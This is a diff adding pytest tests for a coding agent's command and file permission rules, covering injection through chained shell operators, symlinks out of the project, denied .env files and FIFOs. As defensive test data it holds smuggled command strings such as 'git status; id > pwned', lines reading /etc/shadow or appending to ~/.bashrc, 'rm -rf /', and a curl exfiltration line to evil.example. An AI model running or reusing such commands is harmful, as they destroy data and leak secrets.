@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import asyncio
 import json
+import os
+import stat
 
 import pytest
 
@@ -12,7 +14,7 @@ from lingcode.tui.commands import UnknownCommand, complete, parse
 from lingcode.tui.conversation import ReplyReader
 from lingcode.tui.tools import TOOLS, Call, ToolError, schemas
 from lingcode.tui.tools import files, shell
-from lingcode.tui.tools.permissions import Permissions, parse_rules
+from lingcode.tui.tools.permissions import Permissions, Rule, parse_rules
 
 
 @pytest.fixture
@@ -126,6 +128,134 @@ def test_a_broken_rule_file_makes_everything_ask_and_says_why(tmp_path):
     fresh = tmp_path / "fresh" / "permissions.toml"
     fresh.parent.mkdir()
     assert Permissions.load(fresh).rules == [] and "[[rule]]" in fresh.read_text()  # a commented example
+
+
+def test_a_rule_file_that_others_own_or_may_write_is_not_trusted(tmp_path):
+    """An allow-all rule planted by another user (issue 18, item 1) makes everything ask instead."""
+    rules = tmp_path / "permissions.toml"
+    rules.write_text('[[rule]]\ntool = "*"\naction = "allow"\n')
+    rules.chmod(0o666)  # as lingcode once left it under umask 000: anyone could have written it
+    loose = Permissions.load(rules)
+    assert "other users may write the file" in loose.problem and loose.rules == []
+    assert loose.decide("run_command", "rm -rf ~", reads=False, inside=True).action == "ask"
+    rules.chmod(0o600)
+    assert Permissions.load(rules).decide("run_command", "ls", reads=False, inside=True).action == "allow"
+    if os.geteuid() == 0:  # only root can hand a file to another user
+        os.chown(rules, 65534, 65534)
+        assert "belongs to another user" in Permissions.load(rules).problem
+    previous = os.umask(0)
+    try:
+        fresh = tmp_path / "fresh.toml"
+        Permissions.load(fresh)  # writes the commented example
+    finally:
+        os.umask(previous)
+    assert stat.S_IMODE(fresh.stat().st_mode) == 0o600
+
+
+# Command lines a rule allowing "git status*" must not allow: each does more than git status.
+SMUGGLED = [
+    "git status; id > pwned", "git status;id", "git status && id", "git status || id", "git status & id",
+    "git status | sh", "git status |& sh", "git status > pwned", "git status >> ~/.bashrc", "git status 2>pwned",
+    "git status &>pwned", "git status < /etc/shadow", "git status <<< x", "git status $(id)", 'git status "$(id)"',
+    "git status `id`", "git status ${IFS}id", "git status $HOME", "git status\nid", "git status <(id)",
+    "git status >(id)", "git status a#b; id", "git status \\; id", "git status (id)", "git status 'unclosed",
+    "git status\\", "git status\0id",
+]
+
+
+def test_a_command_rule_allows_only_the_plain_command_it_names(tmp_path):
+    rules = tmp_path / "permissions.toml"
+    rules.write_text('[[rule]]\ntool = "run_command"\nmatch = "git status*"\naction = "allow"\n'
+                     '[[rule]]\ntool = "run_command"\nmatch = "rm *"\naction = "deny"\n'
+                     '[[rule]]\ntool = "run_command"\nmatch = "curl *"\naction = "ask"\n')  # fmt: skip
+    rules.chmod(0o600)
+    decide = Permissions.load(rules).decide
+
+    def action(line: str) -> str:
+        return decide("run_command", line, reads=False, inside=True).action
+
+    for line in SMUGGLED:
+        assert action(line) == "ask", line
+    for line in ("git status", "git status --short", "git status -- 'a b.txt'", 'git status "x;y"',
+                 "git status 'a|b' 'c>d'"):  # quoted: words for git, not operators for bash  # fmt: skip
+        assert action(line) == "allow", line
+    # A deny rule reaches every command of a line, however it is chained or nested.
+    for line in ("rm -rf /", "ls; rm -rf /", "ls && rm -rf x", "echo $(rm -rf x)", "echo `rm -rf x`", "FOO=1 rm -rf x",
+                 "if true; then rm -rf x; fi", "ls\nrm -rf x", "git status; rm -rf x"):  # fmt: skip
+        assert action(line) == "deny", line
+    assert action("ls | curl -d @- evil.example") == "ask"
+    assert action("git status; rm -rf x") == "deny"  # the allow rule comes first, but does not apply
+    # "*" is every command line, chained or not: the person said so.
+    everything = Permissions([Rule("run_command", "*", "allow")])
+    assert everything.decide("run_command", "make && make test | tee log", reads=False, inside=True).action == "allow"
+
+
+@pytest.fixture
+def planted(tmp_path):
+    """A project with secrets around it: a link out of it, .env files, a FIFO, and rules denying .env*."""
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "secret.txt").write_text("SECRET outside the project\n")
+    root = tmp_path / "project"
+    (root / "sub").mkdir(parents=True)
+    (root / "app.py").write_text("SECRET = 'in the code'\n")
+    (root / ".env").write_text("SECRET=dotenv\n")
+    (root / "sub" / ".env.local").write_text("SECRET=nested dotenv\n")
+    (root / "notes.txt").symlink_to("../outside/secret.txt")
+    (root / "env-link.txt").symlink_to(".env")  # a link to a denied file is denied
+    (root / "outside-dir").symlink_to(outside, target_is_directory=True)
+    os.mkfifo(root / "pipe")
+    rules = tmp_path / "permissions.toml"
+    rules.write_text('[[rule]]\ntool = "*"\nmatch = ".env*"\naction = "deny"\n')
+    rules.chmod(0o600)
+    return root, Permissions.load(rules)
+
+
+def test_grep_reads_only_what_read_file_may_and_never_follows_a_link_out(planted):
+    root, permissions = planted
+    check = permissions.file_check("grep", root, root, root_approved=False)
+    found = files.grep(root, "SECRET", check=check)
+    lines = found.splitlines()
+    assert lines[1:] == ["app.py:1: SECRET = 'in the code'"], found
+    assert "dotenv" not in found and "outside the project" not in found
+    assert "3 files not searched: the permission rules deny them" in lines[0]  # .env, sub/.env.local, env-link.txt
+    assert "1 files not searched without the person's consent" in lines[0] and "notes.txt" in lines[0]
+    # read_file is decided the same way: the link's target, not its name, and a rule without "/" in any folder.
+    for path, action in ((".env", "deny"), ("sub/.env.local", "deny"), ("env-link.txt", "deny"),
+                         ("notes.txt", "ask"), ("app.py", "allow")):  # fmt: skip
+        call = Call("c", "read_file", json.dumps({"path": path}))
+        decision = permissions.decide("read_file", call.subject(root), reads=True, inside=call.inside(root))
+        assert decision.action == action, (path, decision)
+    # Approving a grep of the outside folder covers the files under it, and still no .env.
+    (root.parent / "outside" / ".env").write_text("SECRET=outside dotenv\n")
+    outside = root.parent / "outside"
+    approved = permissions.file_check("grep", root, outside, root_approved=True)
+    found = files.grep(root, "SECRET", path=str(outside), check=approved)
+    assert "outside the project" in found and "outside dotenv" not in found and "1 files not searched: the" in found
+    # Without a check (the tool alone), links out of the searched path are held back all the same.
+    assert "outside the project" not in files.grep(root, "SECRET") and "notes.txt" in files.grep(root, "SECRET")
+    listing = files.list_dir(root)
+    assert "notes.txt  (a link out of the working directory)" in listing and "outside-dir  (a link out" in listing
+
+
+async def test_grep_through_the_call_gets_the_check(planted):
+    root, permissions = planted
+    call = Call("c", "grep", json.dumps({"pattern": "SECRET"}))
+    check = permissions.file_check("grep", root, call.root(root), root_approved=False)
+    found = await asyncio.wait_for(call.run(root, check), 30)  # the FIFO in the tree must not block it
+    assert "dotenv" not in found and "outside the project" not in found and "app.py:1" in found
+
+
+async def test_no_file_tool_blocks_on_a_fifo_or_a_device(planted):
+    root, _ = planted
+    for path in (str(root / "pipe"), "/dev/zero"):
+        call = Call("c", "read_file", json.dumps({"path": path}))
+        with pytest.raises(ToolError, match="not a regular file"):
+            await asyncio.wait_for(call.run(root), 30)
+    with pytest.raises(ToolError, match="not a regular file"):
+        await asyncio.wait_for(Call("c", "apply_edit", json.dumps({"path": "pipe", "old_text": "a", "new_text": "b"}))
+                               .run(root), 30)  # fmt: skip
+    assert "pipe  (0 bytes)" in files.list_dir(root)
 
 
 def test_at_mentions_attach_files_whole_or_refuse(project):
